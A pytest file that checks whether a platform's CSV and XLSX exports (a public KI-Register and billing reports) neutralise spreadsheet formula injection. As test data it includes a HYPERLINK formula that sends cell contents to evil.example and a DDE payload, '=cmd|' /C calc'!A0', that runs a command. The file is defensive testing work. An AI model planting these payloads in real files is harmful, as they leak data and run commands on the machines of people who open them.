"""Exports are safe to open: a cell that starts with =, +, -, @, a tab or a carriage return never becomes a
formula, in every CSV and XLSX the platform writes (knowledge base, public KI-Register, billing reports)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from billing.actions import run_period
from billing.metering import record_usage
from billing.models import AllocationRule, CostPool
from billing.reports.render import render_report
from catalog.models import RegisterEntry
from tenants.models import Role

from .catalog.conftest import echo_service, make_offering, offering, subscribe  # noqa: F401  (fixtures)
from .conftest import host_client

EVIL = ['=HYPERLINK("https://evil.example/?"&A1;"Hilfe")', "+49 30 1234", "-2+3", "@SUM(1+1)", "\t=1+1",
        "\r=1+1"]


def test_the_public_register_csv_neutralises_formulas(town_a, offering, subscribe, member_factory):
    subscribe(town_a, offering)
    entry = RegisterEntry.objects.get(town=town_a)
    dpo = member_factory(town_a, Role.DPO)
    texts = {**entry.texts, "purpose": "=cmd|' /C calc'!A0", "contact": "@Kontakt"}
    assert host_client(town_a.host, dpo).post(f"/ki-register/{entry.pk}/edit/", texts).status_code == 302
    content = host_client(town_a.host).get("/ki-register.csv").content.decode("utf-8-sig")
    row = next(r for r in csv.DictReader(io.StringIO(content), delimiter=";"))
    assert row["purpose"] == "'=cmd|' /C calc'!A0" and row["contact"] == "'@Kontakt"


@pytest.mark.parametrize("name", ["=1+1 Gemeinde", "@Amtsdorf"])
def test_billing_reports_neutralise_text_but_keep_their_own_formulas(make_town, offering, subscribe, name):
    month = timezone.localdate().replace(day=1)
    town = make_town(name, population=1000)
    subscribe(town, offering)
    record_usage(town, "echo", "echo", 2, "a", timezone.now())
    CostPool.objects.create(service="echo", period=month, category="staff", amount=Decimal("100.00"))
    AllocationRule.objects.create(service="echo", kind="equal")
    run_period(month, actor="pytest")
    content, _name = render_report(month, "csv", town)
    (row,) = csv.DictReader(io.StringIO(content.decode("utf-8-sig")), delimiter=";")
    assert row["town"] == "'" + name and row["share_eur"] == "100.00"
    book = load_workbook(io.BytesIO(render_report(month, "xlsx", None)[0]))
    summary = book.worksheets[0]
    assert summary["D2"].value == name and summary["D2"].data_type == "s"
    assert summary["G2"].data_type == "f" and summary["E3"].value == "=SUM(E2:E2)"
